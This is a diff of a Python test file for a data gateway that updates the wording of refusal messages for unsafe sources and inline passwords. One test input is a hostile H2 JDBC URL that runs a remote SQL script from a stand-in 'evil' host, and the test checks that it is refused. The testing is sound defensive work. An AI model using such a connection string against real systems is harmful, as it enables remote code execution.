@@ -313,7 +313,7 @@ def test_enrich_table_outside_the_roots_is_refused_before_it_is_read(place: Plac
 
 def test_pipe_as_a_table_does_not_hold_the_gateway(place: Place) -> None:
     operator = {"enrich": {"table": str(place.folder / "open" / "pipe.csv"), "on": "vid"}}
-    assert "no regular file" in refusal(put(place, "admin", {"from": "mine_raw", "pipeline": [operator]}))
+    assert "not a regular file" in refusal(put(place, "admin", {"from": "mine_raw", "pipeline": [operator]}))
 
 
 def test_roots_are_for_admins_and_those_they_name(place: Place) -> None:
@@ -355,7 +355,7 @@ def test_demo_source_is_for_admins(place: Place) -> None:
 )
 def test_source_with_a_host_of_its_own_is_refused(place: Place, who: str, source: dict[str, Any]) -> None:
     detail = refusal(put(place, who, {**RAW, "source": source}, "streams/mine"))
-    assert "names no host of its own: expected {connection: NAME, ...}" in detail
+    assert "can't name a host: expected {connection: NAME, ...}" in detail
     assert "there are: " + ("none" if "kafka" in source else "shared" if who == "weak" else "plant, shared") in detail
 
 
@@ -393,7 +393,7 @@ def test_connections_are_for_admins_and_those_they_name(place: Place) -> None:
     [
         (
             {"jdbc": {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "table": "t"}},
-            "no host of its own",
+            "can't name a host",
         ),
         ({"jdbc": {"url": "jdbc:postgresql://db/city?user=a&password=hunter2", "table": "t"}}, "connections"),
         (
@@ -433,7 +433,7 @@ def test_password_in_a_file_of_the_operator_is_refused_too(place: Place, part: d
         data = place.running.data
         said = tidegate(command, file, data=data) if command == "apply" else _validate(file)
         assert said.returncode == 2, said.stdout
-        remedy = "let the profile bind host and secret to a name under connections"
+        remedy = "give host and secret a name under connections in the profile"
         assert remedy in said.stderr or "let the function read it from a file or the environment" in said.stderr
         assert "hunter2" not in said.stdout + said.stderr
 
